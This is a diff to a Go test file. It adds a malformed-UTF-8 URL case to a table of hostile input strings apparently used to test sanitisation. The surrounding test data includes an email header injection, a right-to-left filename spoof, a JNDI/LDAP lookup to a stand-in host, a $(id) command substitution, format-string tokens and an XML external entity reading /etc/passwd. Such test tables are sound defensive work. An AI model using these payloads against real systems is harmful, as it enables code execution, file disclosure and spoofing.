@@ -60,6 +60,7 @@ var hostile = []struct{ name, text string }{
 	{"a header after a line break", "down\r\nBcc: evil@evil.test\r\nX-Injected: 1\r\n\r\nbody"},
 	{"a reversed direction", "\u202Egnp.exe \u2066x\u2069 \u200F"},
 	{"invalid UTF-8", "a\xffb\xc3(c\xed\xa0\x80d\xf4\x90\x80\x80"},
+	{"invalid UTF-8 in an address", "https://example.com/\xff?\xed\xa0\x80"},
 	{"control characters", "a\x00b\x07c\x1b[31md\x7fe\u0085f\u2028g\ufeffh"},
 	{"templates", `{{.Token}} ${jndi:ldap://evil.test} %s %n %00 $(id) {retry_key}`},
 	{"XML", `]]> &lt; &#x0; <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;`},
